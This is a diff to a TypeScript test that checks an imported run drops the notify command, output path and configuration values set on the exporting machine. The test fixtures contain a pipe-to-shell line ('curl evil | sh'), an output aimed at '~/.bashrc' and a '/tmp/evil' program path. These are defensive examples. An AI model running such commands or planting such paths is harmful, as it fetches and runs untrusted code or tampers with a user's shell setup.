@@ -76,13 +76,29 @@ describe('an exported run', () => {
     expect(readdirSync(join(home, 'runs'))).toEqual(['adhoc']);
   });
 
-  test('brings no command that its machine was to start', async () => {
+  test('brings no command, program or file of its machine', async () => {
     const [here, there] = [temporaryFolder(), temporaryFolder()];
-    const { folder } = runIn(here, { notify: 'curl evil | sh' });
+    const chosen = (value: string) => ({ value, origin: '--set' });
+    const { folder } = runIn(here, {
+      notify: 'curl evil | sh',
+      out: '/home/me/.bashrc',
+      configuration: {
+        'run.notify': chosen('curl evil | sh'),
+        'lean.path': chosen('/tmp/evil'),
+        'lean.project': chosen('/tmp/evil'),
+        'search.seed': chosen('7'),
+      },
+    });
     const imported = await importRun(there, folder);
-    expect(imported).toMatchObject({ kind: 'imported', notes: [expect.stringContaining('curl evil | sh')] });
+    expect(imported).toMatchObject({ kind: 'imported' });
+    expect(imported.kind === 'imported' && imported.notes.join('\n')).toMatch(/curl evil[^]*tmp\/evil[^]*bashrc/);
     const opened = await openRun(there, 'last');
-    expect(opened.kind === 'run' && opened.run.manifest.notify).toBe(null);
+    if (opened.kind !== 'run') throw new Error(opened.message);
+    const { manifest } = opened.run;
+    expect(manifest.notify).toBe(null);
+    expect(manifest.out).toBe(null);
+    expect(JSON.stringify(manifest.configuration)).not.toMatch(/evil/);
+    expect(manifest.configuration['search.seed']).toEqual(chosen('7'));
   });
 });
 
